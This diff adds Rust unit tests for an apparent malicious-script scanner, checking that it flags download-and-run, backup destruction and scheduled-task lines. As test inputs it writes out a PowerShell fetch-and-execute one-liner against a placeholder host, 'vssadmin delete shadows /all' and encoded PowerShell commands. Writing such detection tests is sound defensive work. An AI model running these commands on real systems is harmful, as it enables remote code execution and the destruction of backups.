@@ -285,3 +285,37 @@ fn code_in_plain_behind_a_word_of_python_is_not_hidden_code() {
     assert!(told("powershell.exe -ec \"JABhAD0AMQA7AGUAYwBoAG8AIAAkAGEA\""));
     assert!(told("powershell.exe -nop -ec %code%"));
 }
+
+#[test]
+fn a_text_that_its_name_starts_as_a_script_is_judged_as_one() {
+    let order = "iex(irm https://x.invalid/a)";
+    for (name, dangerous) in [("a.ps1", true), ("a.ps1 ", true), ("a.md", false)] {
+        let found = fired(&case(name, format!("{order}\n")).examine()).contains(&"scripts.download-and-run");
+        assert_eq!(found, dangerous, "{name}");
+    }
+    let told = |text: &str| fired(&case("a.bat", text).examine());
+    assert!(told("vssadmin delete shadows /all\r\n").contains(&"scripts.destroys-backups"));
+    assert!(!told("Ask IT before you delete shadows.\r\n").contains(&"scripts.destroys-backups"));
+}
+
+#[test]
+fn editors_that_colour_the_words_of_other_languages_are_no_loaders() {
+    let module = "define(\"mode/powershell\",[\"require\"],function(e,t,n){\"use strict\";var r=\"Get-Date|Invoke-Expression|\
+                  Invoke-WebRequest|New-Object|Start-Process|Write-Host|Start-BitsTransfer|param|foreach\";t.mode=r;});\n";
+    let report = case("mode-powershell.js", module).examine();
+    assert_eq!(type_of(&report), "javascript");
+    assert!(report.judgement.verdict < Verdict::Dangerous, "{:?}", fired(&report));
+}
+
+#[test]
+fn what_a_script_does_is_told_with_the_line_and_its_place() {
+    let text = "Write-Host 'hello'\nStart-Process notepad.exe\nRegister-ScheduledTask -TaskName a -Action $b\n";
+    let report = case("a.ps1", text).examine();
+    let told: Vec<_> = report.findings.iter().filter(|f| f.rule.id == "scripts.does").collect();
+    assert_eq!(told.len(), 2, "{told:?}");
+    for (finding, line) in told.iter().zip(["Register-ScheduledTask -TaskName a", "Start-Process notepad.exe"]) {
+        assert!(finding.proof().contains(line), "{}", finding.proof());
+        let place = usize::try_from(finding.span.unwrap().offset).unwrap();
+        assert!(text[place..].starts_with(&line[..8]), "{place}");
+    }
+}
